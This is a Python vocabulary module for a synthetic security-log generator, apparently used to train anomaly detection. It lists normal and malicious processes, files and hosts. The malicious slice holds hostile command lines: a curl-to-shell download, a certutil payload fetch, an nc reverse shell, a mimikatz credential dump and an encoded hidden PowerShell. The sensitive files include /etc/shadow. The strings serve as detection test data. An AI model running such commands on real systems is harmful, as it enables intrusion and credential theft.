"""Fixed vocabularies the generator draws from: auth types, ports, file paths, processes, domains, servers.

Columns hold indices into these tuples; the renderer turns indices back into JSON literals. Anomalous
behaviours draw from the ``SENSITIVE_FILES`` / ``MALWARE_PROCESSES`` slices, normal activity from the rest, so
a feature such as "share of unsigned processes" separates the two cleanly.
"""

from __future__ import annotations

CITIES: tuple[str, ...] = (
    "Berlin, DE", "London, GB", "Paris, FR", "Amsterdam, NL", "Madrid, ES", "Milan, IT", "Warsaw, PL",
    "Stockholm, SE", "Dublin, IE", "Zurich, CH", "New York, US", "San Francisco, US", "Chicago, US",
    "Toronto, CA", "Sao Paulo, BR", "Mexico City, MX", "Tokyo, JP", "Seoul, KR", "Singapore, SG",
    "Sydney, AU", "Mumbai, IN", "Bangalore, IN", "Dubai, AE", "Johannesburg, ZA", "Lagos, NG",
    "Moscow, RU", "Istanbul, TR", "Hong Kong, HK", "Jakarta, ID", "Buenos Aires, AR",
)
HOME_CITIES = 10
"""Normal users live in the first HOME_CITIES cities; the rest mostly show up in anomalies."""

CITY_IPS_PER_CITY = 8
"""Public addresses seen from each city (travel, VPN exits, impossible-travel logins)."""

USER_AGENTS: tuple[str, ...] = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Edg/131.0",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928)",
    "curl/8.5.0",
    "python-requests/2.32.3",
)

EVENT_TYPE_MIX: tuple[float, ...] = (0.40, 0.25, 0.20, 0.10, 0.05)
"""Normal activity over streamguard.events.EVENT_TYPES (auth, network, file, process, dns)."""

STATUS_MIX: tuple[float, ...] = (0.93, 0.05, 0.015, 0.005)
"""Normal activity over streamguard.events.STATUSES (success, failed, blocked, pending)."""

NORMAL_SCORE_BETA = (1.5, 13.5)
"""Beta(a, b) of a normal event's threat score: mean 0.1, rarely above 0.4."""

AUTH_TYPES: tuple[str, ...] = ("password", "mfa", "kerberos", "ssh_key", "oauth", "certificate")
AUTH_TYPE_MIX: tuple[float, ...] = (0.45, 0.25, 0.15, 0.08, 0.05, 0.02)

FAILURE_REASONS: tuple[str, ...] = (
    "invalid_password", "expired_token", "mfa_timeout", "unknown_user",  # failed
    "account_locked", "ip_blocklisted", "policy_violation",              # blocked
)
FAILED_REASONS = range(0, 4)
BLOCKED_REASONS = range(4, 7)

PROTOCOLS: tuple[str, ...] = ("TCP", "UDP", "ICMP")
PROTOCOL_MIX: tuple[float, ...] = (0.80, 0.18, 0.02)
DESTINATION_PORTS: tuple[int, ...] = (443, 80, 22, 53, 3389, 445, 8080, 5432, 3306, 9092, 25, 636)
DESTINATION_PORT_MIX: tuple[float, ...] = (
    0.45, 0.10, 0.05, 0.05, 0.03, 0.07, 0.05, 0.05, 0.03, 0.05, 0.02, 0.05,
)

FILE_OPERATIONS: tuple[str, ...] = ("read", "write", "create", "delete", "rename", "execute")
FILE_OPERATION_MIX: tuple[float, ...] = (0.60, 0.20, 0.10, 0.04, 0.04, 0.02)
FILE_PATHS: tuple[str, ...] = (
    "/srv/share/projects/roadmap.docx", "/srv/share/projects/plan.xlsx", "/srv/share/marketing/brand.pdf",
    "/srv/share/engineering/design.md", "/srv/share/engineering/build.log", "/srv/share/sales/leads.csv",
    "/srv/share/it/runbook.md", "/srv/share/templates/letter.dotx", "/var/log/app/app.log",
    "/opt/app/config/settings.yaml", "/tmp/upload.tmp", "/srv/share/meetings/notes.txt",
    "C:\\Users\\Public\\Documents\\report.docx", "C:\\Program Files\\App\\app.exe",
    "/srv/backup/daily.tar.gz",
    # sensitive: what bulk exfiltration reads
    "/srv/share/finance/ledger_2025.xlsx", "/srv/share/hr/salaries.csv", "/srv/share/legal/contracts.zip",
    "/srv/db/dumps/customers.sql", "/srv/share/finance/payroll.xlsx", "/srv/share/rnd/source_code.tar.gz",
    "/srv/share/hr/personnel_files.zip", "/etc/shadow",
)
SENSITIVE_FILES = range(15, 23)
NORMAL_FILES = range(0, 15)

PRIVILEGES: tuple[str, ...] = ("user", "admin", "system")
PRIVILEGE_MIX: tuple[float, ...] = (0.85, 0.12, 0.03)
PROCESSES: tuple[tuple[str, str], ...] = (
    ("chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer"),
    ("outlook.exe", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""),
    ("code", "/usr/share/code/code --unity-launch"),
    ("python3", "python3 manage.py runserver"),
    ("git", "git pull --rebase origin main"),
    ("ssh", "ssh deploy@10.0.5.20"),
    ("java", "java -Xmx2g -jar service.jar"),
    ("bash", "bash -lc make test"),
    ("excel.exe", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" report.xlsx"),
    ("teams.exe", "\"C:\\Users\\Public\\Teams\\current\\Teams.exe\""),
    ("rsync", "rsync -a /srv/data /srv/backup"),
    ("kubectl", "kubectl rollout status deploy/api"),
    # malicious
    ("svch0st.exe", "C:\\Users\\Public\\svch0st.exe -k netsvcs"),
    ("powershell.exe", "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
    ("mimikatz.exe", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"),
    ("xmrig", "./xmrig -o pool.minexmr.example:4444 -u wallet --donate-level 1"),
    ("sh", "sh -c \"curl -s http://198.51.100.23/x.sh | sh\""),
    ("rundll32.exe", "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer"),
    ("certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe"),
    ("nc", "nc -e /bin/sh 203.0.113.50 4444"),
)
NORMAL_PROCESSES = range(0, 12)
MALWARE_PROCESSES = range(12, 20)

DOMAINS: tuple[str, ...] = (
    "mail.corp.example", "intranet.corp.example", "git.corp.example", "wiki.corp.example", "vpn.corp.example",
    "www.google.com", "login.microsoftonline.com", "outlook.office365.com", "github.com", "api.slack.com",
    "zoom.us", "s3.amazonaws.com", "cdn.jsdelivr.net", "pypi.org", "registry.npmjs.org",
    "update.microsoft.com", "teams.microsoft.com", "docs.google.com", "fonts.gstatic.com", "time.windows.com",
)
QUERY_TYPES: tuple[str, ...] = ("A", "AAAA", "CNAME", "MX", "TXT", "SRV")
QUERY_TYPE_MIX: tuple[float, ...] = (0.60, 0.25, 0.05, 0.03, 0.05, 0.02)
RESPONSE_CODES: tuple[str, ...] = ("NOERROR", "NXDOMAIN", "SERVFAIL", "REFUSED")
RESPONSE_CODE_MIX: tuple[float, ...] = (0.95, 0.035, 0.01, 0.005)

SERVERS: dict[str, tuple[str, ...]] = {
    "auth_attempt": ("10.0.0.10", "10.0.0.11", "10.0.0.12"),
    "network_connection": (
        "10.0.1.20", "10.0.1.21", "10.0.1.22", "10.0.1.30", "10.0.2.15", "10.0.2.16", "10.0.3.40",
        "10.0.5.20", "10.0.5.21", "10.0.9.9", "142.250.74.110", "13.107.42.14", "140.82.121.4",
        "52.216.20.5", "151.101.1.69", "104.16.132.229",
    ),
    "file_access": ("10.0.4.10", "10.0.4.11", "10.0.4.12", "10.0.4.13"),
    "process_execution": ("10.0.6.5", "10.0.6.6"),
    "dns_query": ("10.0.0.53", "10.0.0.54"),
}
"""Destination addresses per event type: directory, hosts (internal and external), file servers, DNS."""
